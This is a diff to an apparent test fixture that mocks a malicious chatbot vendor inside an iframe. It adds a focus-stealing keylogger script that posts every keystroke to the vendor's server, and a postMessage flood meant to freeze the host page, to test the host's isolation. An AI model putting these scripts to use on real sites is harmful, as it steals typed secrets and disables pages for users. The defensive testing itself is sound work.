@@ -88,6 +88,24 @@ const attacks = `
   await post('report', report);
 `;
 
+/** The same, by somebody who wants what is typed in the safe: it takes the focus, each millisecond, and reports each key. */
+const thief = `
+  addEventListener('keydown', ({ key }) => void post('key', key));
+  setInterval(() => {
+    if (!document.hasFocus()) window.focus();
+    question.focus();
+  }, 1);
+`;
+
+/** The same, by somebody who wants the page to stop: many messages, and more of them without end. */
+const flood = `
+  const flood = (count) => {
+    for (let i = 0; i < count; i++) parent.postMessage({ type: 'perenne:chatbot-ready' }, '*');
+  };
+  flood(200_000);
+  setInterval(() => flood(2000), 10);
+`;
+
 /** A page of the vendor's own origin and policy, inside of the frame. */
 const inner = `<!doctype html><script type="module">
   const address = new URL('/backend/api/v1/user/profile', new URLSearchParams(location.search).get('safe'));
@@ -100,7 +118,14 @@ const inner = `<!doctype html><script type="module">
   await fetch('${origin}/inner-report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) });
 </script>`;
 
-type Answers = 'conversation' | 'attacks' | 'nothing' | 'silence';
+const scripts = {
+  conversation,
+  attacks: conversation + attacks,
+  thief: conversation + thief,
+  flood: conversation + flood,
+};
+
+type Answers = keyof typeof scripts | 'nothing' | 'silence';
 
 /** The vendor of a support chatbot, at an origin of its own: what its script does, and what reaches its server. */
 export class ChatbotVendor {
@@ -109,6 +134,8 @@ export class ChatbotVendor {
   /** By what it tried. */
   report: Record<string, string> | undefined;
   innerReport: Record<string, string> | undefined;
+  /** Every key that was pressed in its frame, where it takes note of them. */
+  readonly keys: string[] = [];
   /** The pages of its own that somebody came to. */
   readonly visited: string[] = [];
   /** The script was asked for so many times. */
@@ -133,6 +160,7 @@ export class ChatbotVendor {
     if (pathname === '/style.css') return route.fulfill({ contentType: 'text/css', body: style });
     if (pathname === '/inner') return route.fulfill({ contentType: 'text/html', body: inner });
     if (pathname === '/token') this.tokens.push((JSON.parse(body) as { token: string | null }).token);
+    if (pathname === '/key') this.keys.push(JSON.parse(body) as string);
     if (pathname === '/report') this.report = JSON.parse(body) as Record<string, string>;
     if (pathname === '/inner-report') this.innerReport = JSON.parse(body) as Record<string, string>;
     if (route.request().resourceType() === 'document') this.visited.push(pathname);
@@ -143,7 +171,6 @@ export class ChatbotVendor {
     this.loads += 1;
     if (this.answers === 'silence') return;
     if (this.answers === 'nothing') return route.abort('connectionrefused');
-    const script = this.answers === 'attacks' ? conversation + attacks : conversation;
-    return route.fulfill({ contentType: 'text/javascript', body: `(async () => {${script}})();` });
+    return route.fulfill({ contentType: 'text/javascript', body: `(async () => {${scripts[this.answers]}})();` });
   }
 }
